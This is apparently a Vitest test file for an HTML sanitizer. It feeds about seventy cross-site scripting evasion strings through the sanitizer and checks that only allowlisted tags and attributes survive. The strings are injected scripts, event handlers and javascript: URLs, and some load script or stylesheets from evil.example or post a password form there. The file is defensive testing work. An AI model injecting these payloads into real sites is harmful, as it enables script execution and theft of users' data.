import { expect, test } from 'vitest';
import { cleaned } from './clean.ts';

const png = 'data:image/png;base64,iVBORw0KGgo=';

/** The known ways to hide a script in HTML, of OWASP's filter evasion list and of mutations that browsers make of broken markup. */
const tricks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<script/xss src="http://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
  '<img src="jav\tascript:alert(1);">',
  '<img src="jav&#x0A;ascript:alert(1);">',
  '<img src=" &#14; javascript:alert(1);">',
  '<img src="http://evil.example/track.gif">',
  '<img src="//evil.example/track.gif">',
  '<img src="/api/oauth/revoke">',
  '<img srcset="http://evil.example/x 1x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  `<img src="${png}" onload="alert(1)" style="position:fixed">`,
  '<a href="javascript:alert(1)">눌러</a>',
  '<a href="JaVaScRiPt:alert(1)">눌러</a>',
  '<a href="java&#x09;script:alert(1)">눌러</a>',
  '<a href="&#1;javascript:alert(1)">눌러</a>',
  '<a href="vbscript:msgbox(1)">눌러</a>',
  '<a href="data:text/html,<script>alert(1)</script>">눌러</a>',
  '<a href="//evil.example" onclick="alert(1)">눌러</a>',
  '<a href="https://ok.example" target="_self" rel="opener" onmouseover="alert(1)">눌러</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="http://evil.example"><input type="password" name="p"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onload=alert(1)/>',
  '<p id="content" class="toolbar" name="body">x</p>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<bgsound src="javascript:alert(1)">',
  '<img src=x:x onerror=alert(1) ',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<p onclick\u0000=alert(1)>x</p>',
  '＜script＞alert(1)＜/script＞',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];
const attributes: Readonly<Record<string, RegExp>> = {
  href: /^(https?:\/\/|mailto:|tel:|\/(?!\/))[^"]*$/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  src: /^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*$/,
  alt: /^[^"<>]*$/,
  width: /^\d*$/,
  height: /^\d*$/,
};
const tags = new Set('p br h2 h3 h4 strong b em i u s code pre blockquote hr ul ol li table thead tbody tr th td a img'.split(' '));

test.each(tricks)('%s', (trick) => {
  const { contents } = cleaned(`<p>앞</p>${trick}<p>뒤</p>`);
  // Every sign that begins a tag begins one of the list, and every attribute is one of the list with what it may say.
  for (const [, name = '', rest = ''] of contents.matchAll(/<\/?([^\s/>]*)([^>]*)>/g)) {
    expect(tags.has(name), contents).toBe(true);
    for (const [, attribute = '', value = ''] of rest.matchAll(/([^\s=/"]+)="([^"]*)"/g))
      expect(attributes[attribute]?.test(value), `${attribute}="${value}"`).toBe(true);
    expect(rest.replace(/[^\s=/"]+="[^"]*"/g, '').replace(/[\s/]/g, '')).toBe('');
  }
  expect(contents.replace(/<[^>]*>/g, '')).not.toContain('<');
  expect(contents).not.toContain('\u0000');
  // Cleaned once more it is the same: nothing grows out of what was left.
  expect(cleaned(contents).contents).toBe(contents);
});

test('what people write stays: headings, lists, a table, a link and a picture', () => {
  const sent = `<h2>점검</h2><p><strong>1호기</strong> <u>정지</u></p><ol start="3"><li><p>전원</p></li></ol><table><tbody><tr><td colspan="2"><p>표</p></td></tr></tbody></table><p><a href="https://a.example/x?y=1">안내</a><img src="${png}" alt="사진" /></p>`;
  const { contents, body, hasPicture } = cleaned(sent);
  expect(contents).toBe(
    sent.replace(
      '<a href="https://a.example/x?y=1">',
      '<a href="https://a.example/x?y=1" target="_blank" rel="noopener noreferrer nofollow">',
    ),
  );
  expect(body).toBe('점검\n1호기 정지\n전원\n표\n안내');
  expect(hasPicture).toBe(true);
});

test('what it says is read as people read it', () => {
  expect(cleaned('<p>A &amp; B &lt;3&gt;</p><p></p><p>둘&nbsp;셋</p>').body).toBe('A & B <3>\n둘 셋');
  expect(cleaned('<p> <br> </p>')).toMatchObject({ body: '', hasPicture: false });
});

test('ten thousand tags inside of each other take no time', () => {
  const began = process.cpuUsage();
  const { contents } = cleaned('<blockquote>'.repeat(10_000));
  expect(process.cpuUsage(began).user / 1000).toBeLessThan(3000);
  expect(contents.split('<blockquote>').length).toBeLessThan(40);
});
